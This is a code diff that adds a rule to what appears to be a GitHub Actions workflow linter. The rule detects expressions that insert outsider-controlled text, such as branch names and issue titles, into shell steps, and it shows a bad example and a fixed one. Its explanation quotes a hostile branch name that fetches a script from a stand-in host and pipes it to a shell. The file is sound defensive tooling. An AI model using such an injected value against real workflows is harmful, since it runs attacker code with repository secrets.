@@ -1,0 +1,46 @@
+import { lines } from '../lines.ts'
+import type { Rule } from '../rule.ts'
+
+/** What outsiders write; https://docs.github.com/en/actions/reference/security/secure-use */
+const untrusted =
+  /\$\{\{[^}]*\b(?:github\.head_ref|github\.event\.(?:issue|pull_request|comment|review|discussion|pages|commits|head_commit|release|workflow_run)\b[\w.[\]*]*(?:title|body|message|name|email|label|ref|head_branch|tag_name))\b[^}]*\}\}/g
+
+export const expressionInScript: Rule = {
+  code: 'EXPRESSION_IN_SCRIPT',
+  severity: 'error',
+  title: 'An expression puts text that others write into a shell script.',
+  why: 'GitHub puts the text in before the shell reads it. A branch that is named `$(curl evil.example|sh)` runs that command in the job, with its secrets.',
+  fix: 'Hand it over in a variable: `env: { REF: ${{ github.head_ref }} }`, and write `"$REF"` in the script.',
+  bad: workflowWith('      - run: ssh deploy@test.example.com "./deploy.sh ${{ github.head_ref }}"'),
+  good: workflowWith(
+    '      - run: ssh deploy@test.example.com ./deploy.sh "$REF"',
+    '        env:',
+    '          REF: ${{ github.head_ref }}',
+  ),
+  *check({ workflows }) {
+    for (const { run } of workflows.flatMap(({ jobs }) => jobs.flatMap(({ steps }) => steps))) {
+      if (run === undefined) continue
+      const { file, start, end } = run
+      for (const match of file.text.slice(start, end).matchAll(untrusted)) {
+        const at = { file, start: start + match.index, end: start + match.index + match[0].length }
+        yield {
+          at,
+          message: `\`${match[0].replace(/^\$\{\{\s*|\s*\}\}$/g, '')}\` becomes part of the script, whatever it holds.`,
+        }
+      }
+    }
+  },
+}
+
+function workflowWith(...step: readonly string[]): Record<string, string> {
+  return {
+    '.github/workflows/deploy.yml': lines(
+      'on: pull_request',
+      'jobs:',
+      '  deploy:',
+      '    runs-on: ubuntu-latest',
+      '    steps:',
+      ...step,
+    ),
+  }
+}
